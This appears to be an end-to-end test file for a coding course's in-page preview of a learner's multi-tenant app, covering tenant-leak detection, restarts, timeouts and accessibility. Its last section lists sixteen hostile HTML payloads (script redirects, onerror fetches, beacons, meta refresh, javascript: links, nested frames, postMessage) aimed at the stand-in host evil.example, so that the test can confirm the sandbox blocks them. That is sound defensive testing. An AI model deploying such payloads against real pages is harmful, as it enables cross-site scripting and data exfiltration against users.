// The learner's app in the page: what it shows, where the tenant is lost, and what a page cannot do.
import type { FrameLocator, Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { sideways, violations } from './axe.ts'
import { exerciseOf } from './fixture.ts'
import { openSite } from './journeys.ts'
import { Workbook } from './workbook.ts'

const site = await openSite()

interface Opened {
  readonly page: Page
  readonly workbook: Workbook
  readonly shown: FrameLocator
  /** What left the page for anywhere but the site. */
  readonly strange: string[]
}

async function openBrowser(
  lesson: string,
  slug: string,
  text?: string,
  viewport = { width: 1440, height: 900 },
): Promise<Opened> {
  const page = await site.browser.newPage({ viewport })
  const strange: string[] = []
  // What the policy stops never leaves the page; anything else would fail by its name, at the latest.
  // Nor does a blob: a worker that is ended while it starts leaves its blob as a failed request.
  const note = (url: string): void => {
    if (!/^(blob|data):/.test(url)) strange.push(url)
  }
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') note(request.url())
  })
  page.on('response', (response) => {
    if (!response.url().startsWith(site.url)) note(response.url())
  })
  const workbook = new Workbook(page, site.url)
  await workbook.open(lesson, slug)
  if (text !== undefined) await workbook.write(text)
  await workbook.result('Browser')
  await page.locator('.reply').first().waitFor()
  return { page, workbook, shown: page.frameLocator('iframe.preview').first(), strange }
}

async function go(page: Page, host: string, path: string): Promise<void> {
  await page.getByLabel('Host', { exact: true }).selectOption(host)
  await page.getByLabel('Path', { exact: true }).fill(path)
  await page.getByRole('button', { name: 'Go' }).click()
  await page.locator('.reply header', { hasText: host }).filter({ hasText: path }).first().waitFor()
}

describe('the Browser pane', () => {
  it('shows the reference app: links, forms, Back, both tenants', async () => {
    const { page, shown, strange } = await openBrowser('tenant-views', 'two-url-maps')
    await page.getByLabel('reference app').check()
    await shown.getByRole('link', { name: 'Notes', exact: true }).click()
    await shown.getByText('Order anvils').waitFor()
    await shown.getByLabel('Title').fill('<b>From the page</b>')
    await shown.getByRole('button', { name: 'Add' }).click()
    await shown.getByText('<b>From the page</b>').waitFor()
    await page.getByRole('button', { name: 'Back' }).click()
    await shown.getByText('Order anvils').waitFor()
    expect(await shown.getByText('From the page').count()).toBe(0)

    await page.getByLabel('as both tenants').check()
    await page.getByRole('button', { name: 'Go' }).click()
    await expect.poll(() => page.locator('.reply').count()).toBe(2)
    const both = await page.locator('.reply header').allInnerTexts()
    expect(both.map((text) => text.split('\n')[0])).toEqual(['acme.localhost', 'globex.localhost'])
    await page.frameLocator('iframe.preview').nth(1).getByText('Buy a volcano').waitFor()
    expect(await page.locator('.leak').count()).toBe(0)
    expect(strange).toEqual([])
    await page.close()
  })

  it('marks a leak and tells where the tenant was lost', async () => {
    const { reference } = exerciseOf(site, 'qualified-notes')
    const leaky = (reference['schema-repo.ts'] ?? '').replace(
      'from ${notes} order by id',
      'from globex.notes order by id',
    )
    const { page } = await openBrowser('a-folder-for-each-customer', 'qualified-notes', leaky)
    await go(page, 'acme.localhost', '/notes')
    const leak = await page.locator('.leak').innerText()
    expect(leak).toContain('GLOBEX-CANARY-1989')
    await page.frameLocator('iframe.preview').first().locator('mark[data-leak=globex]').waitFor()
    expect(await page.locator('.tenant-way p').innerText()).toBe(
      'First lost here: the statements name globex instead of acme.',
    )
    await page.close()
  })

  it('starts again with the files as they are now', async () => {
    const { page, workbook, shown } = await openBrowser('tenant-views', 'tenant-home')
    const { reference } = exerciseOf(site, 'tenant-home')
    await workbook.write((reference['home.ts'] ?? '').replace('Customer since', 'With us since'))
    await workbook.result('Browser')
    await page.getByRole('button', { name: 'Start it again' }).click()
    await shown.getByText('With us since').waitFor()
    await workbook.write('export const = 1')
    await workbook.result('Browser')
    await page.getByRole('button', { name: 'Start it again' }).click()
    await page.getByText('The app could not be started.').waitFor()
    await page.close()
  })

  it('stops an app that does not answer', async () => {
    const endless = `export const tenantHome = () => () => { for (;;) {} }`
    const page = await site.browser.newPage()
    const workbook = new Workbook(page, site.url)
    await workbook.open('tenant-views', 'tenant-home')
    await workbook.write(endless)
    await workbook.result('Browser')
    await page.getByText('It never paused over this request').first().waitFor()
    await page.close()
  })

  it.each([320, 1440])(
    'has no fault that axe can find at %i px',

    async (width) => {
      const opened = await openBrowser('tenant-views', 'two-url-maps', undefined, {
        width,
        height: 900,
      })
      const { page } = opened
      await page.getByLabel('reference app').check()
      await page.getByLabel('as both tenants').check()
      await page.getByRole('button', { name: 'Go' }).click()
      await expect.poll(() => page.locator('.reply').count()).toBe(2)
      expect(await sideways(page)).toBe(0)
      await page.close()
      const axed = await site.browser.newPage({
        viewport: { width, height: 900 },
        bypassCSP: true,
      })
      const workbook = new Workbook(axed, site.url)
      await workbook.open('tenant-views', 'two-url-maps')
      await workbook.result('Browser')
      await axed.locator('.reply').first().waitFor()
      expect(await violations(axed)).toEqual([])
      await axed.close()
    },
  )
})

/** What a hostile page could try. Each would be seen as a request, a navigation or a change of the site. */
const escapes: Readonly<Record<string, string>> = {
  'a script': `<script>top.location = 'https://evil.example/script'</script>`,
  'a handler': `<img src="x" onerror="fetch('https://evil.example/handler')">`,
  'an image as a beacon': `<img src="https://evil.example/image.png">`,
  'a style as a beacon': `<div style="background:url(https://evil.example/style.png)">x</div><style>@import "https://evil.example/import.css"</style>`,
  'a refresh': `<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">`,
  'a base': `<base href="https://evil.example/"><a href="base">go</a>`,
  'a link to the top': `<a id="go" target="_top" href="https://evil.example/top">go</a>`,
  'a link to javascript': `<a id="go" href="javascript:top.location='https://evil.example/js'">go</a>`,
  'a form to elsewhere': `<form id="f" action="https://evil.example/form"><button id="go">go</button></form>`,
  'a frame': `<iframe src="https://evil.example/frame"></iframe>`,
  'a nested document': `<iframe srcdoc="<script>top.location='https://evil.example/nested'</script>"></iframe>`,
  'a prefetch': `<link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example">`,
  'an object': `<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">`,
  'an svg': `<svg><script>top.location='https://evil.example/svg'</script><image href="https://evil.example/svg.png"/></svg>`,
  'a template that is no template': `<textarea></textarea><noscript><img src="https://evil.example/noscript.png"></noscript>`,
  'a message of its own': `<a id="go" href="#">go</a><script>parent.postMessage({ token: 'x', method: 'GET', url: '/' }, '*')</script>`,
}

describe('a hostile page', () => {
  it('reaches neither the site nor the network', async () => {
    const pages = Object.values(escapes)
    const routes = `
      const pages = ${JSON.stringify(pages)}
      export const mountRoutes = () => (req, res) => {
        res.send('<!doctype html><p id="here">page ' + req.path + '</p>' + (pages[Number(req.path.slice(1))] ?? ''))
      }
      export const subfolder = () => (_req, _res, next) => next()
    `
    const { page, strange } = await openBrowser('tenant-views', 'two-url-maps', routes)
    const before = page.url()
    for (const [index, name] of Object.keys(escapes).entries()) {
      await go(page, 'acme.localhost', `/${index}`)
      const frame = page.frameLocator('iframe.preview').first()
      await frame.getByText(`page /${index}`).waitFor()
      const link = frame.locator('#go')
      if ((await link.count()) > 0) await link.first().click()
      // What it tried has been tried when the next page of the app is there.
      await go(page, 'acme.localhost', '/none')
      await frame.getByText('page /none').waitFor()
      expect(strange, name).toEqual([])
      expect(page.url(), name).toBe(before)
    }
    const alive = await page.evaluate(() => document.querySelector('.bench') !== null)
    expect(alive).toBe(true)
    await page.close()
  })
})
